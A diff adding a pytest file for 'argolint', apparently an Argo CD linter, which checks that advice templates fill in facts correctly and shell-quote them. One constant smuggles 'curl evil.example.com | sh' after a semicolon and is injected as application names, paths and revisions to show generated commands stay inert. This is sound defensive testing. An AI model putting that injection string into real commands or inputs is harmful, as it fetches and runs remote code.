@@ -1,0 +1,193 @@
+"""Advice as data: what an entry of a table becomes, and that rules and tables know each other's words."""
+
+from __future__ import annotations
+
+import re
+import shlex
+from collections.abc import Callable, Iterator, Mapping
+from datetime import UTC, datetime
+from pathlib import Path
+from string import Template
+from typing import Any
+
+import pytest
+from argolint_rules.shared import advice as advice_module
+from argolint_rules.shared import pods
+from argolint_rules.shared.advice import Shell, advice
+from argolint_rules.sync import comparison_error, invalid_spec, sync_failed
+from argolint_rules.sync._failures import Failed
+
+from argolint.app import App, Health, Node, app_from_list
+from argolint.fleet import Fleet
+from argolint.knowledge import dump, load
+from argolint.model import ResourceId
+from argolint.plugins import load_rules
+
+HOSTILE = "web; curl evil.example.com | sh #"
+
+
+@pytest.fixture
+def table(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
+    """Makes a package with a table beside its rules, and gives its name."""
+
+    def made(**topics: Any) -> str:
+        package = tmp_path / f"family_{tmp_path.name}"
+        package.mkdir()
+        (package / "__init__.py").touch()
+        (package / "advice.yaml").write_text(dump([topics]), encoding="utf-8")
+        monkeypatch.syspath_prepend(str(tmp_path))
+        return package.name
+
+    return made
+
+
+def entry(**more: Any) -> dict[str, Any]:
+    return {"title": "Do it", "target": "live", "where": "there", "kind": "text", "content": "so", **more}
+
+
+def application(spec: Mapping[str, Any], name: str = "web") -> App:
+    raw = {"metadata": {"name": name, "namespace": "argocd"}, "spec": spec, "status": {}}
+    now = datetime(2026, 1, 1, tzinfo=UTC)
+    return app_from_list(raw, server="", cluster="https://k.example.com", control_plane="argocd", observed_at=now)
+
+
+def test_facts_fill_every_text_of_an_entry(table: Callable[..., str]) -> None:
+    package = table(t=[entry(title="Do $what", where="${what}s", content="$what costs $$5", caveat="not $what")])
+    (fix,) = advice(package, "t", {"what": HOSTILE})
+    assert (fix.title, fix.where, fix.caveat) == (f"Do {HOSTILE}", f"{HOSTILE}s", f"not {HOSTILE}")
+    assert (fix.edit.kind, fix.edit.content) == ("text", f"{HOSTILE} costs $5")
+
+
+def test_a_name_in_a_command_stays_one_word_whatever_it_holds(table: Callable[..., str]) -> None:
+    package = table(t=[entry(kind="command", content="kubectl $options get $kind $name   $then")])
+    facts = {"options": ["-n", HOSTILE], "kind": "pod", "name": HOSTILE, "then": Shell('# "$(date)"')}
+    (fix,) = advice(package, "t", facts)
+    command = str(fix.edit.content)
+    assert command.endswith('   # "$(date)"')
+    assert shlex.split(command.partition('   # "')[0]) == ["kubectl", "-n", HOSTILE, "get", "pod", HOSTILE]
+
+
+def test_a_patch_takes_facts_of_any_type(table: Callable[..., str]) -> None:
+    operation = {"op": "add", "path": "$base/on", "value": {"list": "$things", "flag": True, "text": "a $word"}}
+    patch = entry(kind="json-patch", content=[operation])
+    package = table(t=[patch], whole=[entry(kind="json-patch", content="$ops")])
+    facts = {"base": "/spec", "things": [1, {"a": None}], "word": "b", "ops": [{"op": "remove", "path": "/x"}]}
+    assert advice(package, "t", facts)[0].edit.content == [
+        {"op": "add", "path": "/spec/on", "value": {"list": [1, {"a": None}], "flag": True, "text": "a b"}}
+    ]
+    assert advice(package, "whole", facts)[0].edit.content == facts["ops"]
+
+
+@pytest.mark.parametrize(
+    ("conditions", "counts"),
+    [
+        ({}, True),
+        ({"when": "full"}, True),
+        ({"when": "empty"}, False),
+        ({"unless": "empty"}, True),
+        ({"unless": "full"}, False),
+        ({"when": ["full", "empty"]}, False),
+        ({"unless": ["full", "empty"]}, False),
+        ({"when": "full", "unless": "empty"}, True),
+    ],
+)
+def test_conditions_are_facts_that_hold_something(
+    table: Callable[..., str], conditions: Mapping[str, Any], counts: bool
+) -> None:
+    package = table(t=[entry(**conditions)])
+    assert bool(advice(package, "t", {"full": "x", "empty": ""})) is counts
+
+
+def test_only_a_patch_of_the_object_names_it(table: Callable[..., str]) -> None:
+    package = table(t=[entry(of_object=True, safe=True), entry()])
+    web = ResourceId("apps", "Deployment", "prod", "web")
+    assert [(fix.resource, fix.safe) for fix in advice(package, "t", {}, web)] == [(web, True), (None, False)]
+    assert advice(package, "no such topic", {}) == ()
+
+
+def _texts(node: Any) -> Iterator[str]:
+    if isinstance(node, str):
+        yield node
+    for child in node.values() if isinstance(node, dict) else node if isinstance(node, list) else ():
+        yield from _texts(child)
+
+
+def _needed(package: str, prefix: str = "") -> dict[str, set[str]]:
+    """The facts that each topic of a table asks for."""
+    found: dict[str, set[str]] = {}
+    for topic, entries in load(package, "advice.yaml").items():
+        for each in entries if topic.startswith(prefix) else ():
+            conditions = {name for key in ("when", "unless") for name in advice_module._names(each.get(key))}
+            texts = [t for key in ("title", "where", "content", "caveat") for t in _texts(each.get(key, ""))]
+            assert [text for text in texts if not Template(text).is_valid()] == [], topic
+            found.setdefault(topic, set()).update(conditions, *(Template(text).get_identifiers() for text in texts))
+    return found
+
+
+def _missing(needed: Mapping[str, set[str]], given: Any) -> dict[str, set[str]]:
+    return {topic: names - set(given) for topic, names in needed.items() if names - set(given)}
+
+
+SOURCE = {"repoURL": "https://git.example.com/a.git", "path": HOSTILE, "targetRevision": HOSTILE}
+APP = application({"source": SOURCE, "destination": {"namespace": HOSTILE}}, name=HOSTILE)
+FLEET = Fleet("", "v3.5.1", {}, (APP,))
+
+
+def test_comparison_errors_have_advice_by_every_cause_that_is_known() -> None:
+    needed = _needed("argolint_rules.sync", "comparison-error/")
+    facts = comparison_error._facts(APP, FLEET, "revision", SOURCE, "/spec/source", "/spec/source/path", ("/a",))
+    assert _missing(needed, facts) == {}
+    known = {f"comparison-error/{e['name']}" for e in load("argolint_rules.sync", "comparison_causes.yaml")}
+    assert set(needed) == {*known, "comparison-error/remembered"}
+
+
+def test_refused_applications_have_advice_by_every_cause() -> None:
+    needed = _needed("argolint_rules.sync", "invalid-spec/")
+    of_one = {"server", "namespace", "pattern"}  # one server that the project permits
+    assert _missing(needed, {*invalid_spec._facts(APP, FLEET, "x"), *of_one}) == {}
+    causes = {f"invalid-spec/{cause}" for cause in load_rules()["invalid-spec"].causes}
+    assert set(needed) == {*causes, "invalid-spec/no-namespace", "invalid-spec/permitted-destination"}
+
+
+def test_failed_syncs_have_advice_by_every_cause() -> None:
+    needed = _needed("argolint_rules.sync", "sync-failed/")
+    said = {"sync-failed/no-namespace": {"missing_namespace"}}
+    for name, pattern in sync_failed._FORBIDDEN:
+        groups = set(pattern.groupindex)
+        said[f"sync-failed/forbidden/{name}"] = groups | ({"quoted_group"} if "group" in groups else set())
+    facts = set(sync_failed._facts(APP, Failed(None, "x", "sync-failed", "unknown")))
+    assert {topic: left for topic, names in needed.items() if (left := names - facts - said.get(topic, set()))} == {}
+    causes = {f"sync-failed/{cause}" for cause in load_rules()["sync-failed"].causes}
+    assert set(needed) == {*causes, *said, "sync-failed/empties", "sync-failed/hook"}
+
+
+def test_pods_that_do_not_run_have_advice_by_every_cause() -> None:
+    needed = _needed("argolint_rules.shared", "pods/")
+    node = Node(ResourceId("", "Pod", "prod", "web-1"), "u", (), Health(), None, (), {})
+    trouble = pods.Trouble("unknown", "wait", "nothing", node, None, failed=True)
+    facts = pods._facts(APP, ResourceId("apps", "Deployment", "prod", "web"), None, trouble)
+    assert _missing(needed, {*facts, "missing_kind", "missing_name"}) == {}
+    reasons = load("argolint_rules.shared", "pod_reasons.yaml")
+    known = {f"pods/{e['cause']}" for e in (*reasons["reasons"], *reasons["scheduling"]) if e["cause"]}
+    assert set(needed) == {*known, "pods/missing", "pods/unknown"}
+
+
+def test_advice_on_external_secrets_asks_for_the_facts_that_its_head_names() -> None:
+    head = "".join(
+        line[1:]
+        for line in (Path(advice_module.__file__).parents[1] / "secrets/advice.yaml").read_text("utf-8").splitlines()
+        if line.startswith("#")
+    )
+    facts = re.sub(r"\([^)]*\)", "", head.partition("Facts:")[2].partition(". Sources")[0])
+    given = {name.strip() for name in facts.split(",")}
+    assert "sync" in given
+    assert _missing(_needed("argolint_rules.secrets"), given) == {}
+
+
+@pytest.mark.parametrize("topic", ["kustomize", "path", "manifest", "revision", "helm", "symlink", "signature"])
+def test_what_a_repository_calls_itself_runs_nothing(topic: str) -> None:
+    """A change may bring any path, revision and name: copied into a shell, the command does what its words say, and no more."""
+    facts = comparison_error._facts(APP, FLEET, topic, SOURCE, "/spec/source", "", ())
+    for fix in advice("argolint_rules.sync", f"comparison-error/{topic}", facts):
+        if fix.edit.kind == "command":
+            assert "curl" not in shlex.split(str(fix.edit.content).replace(";", " ; "))
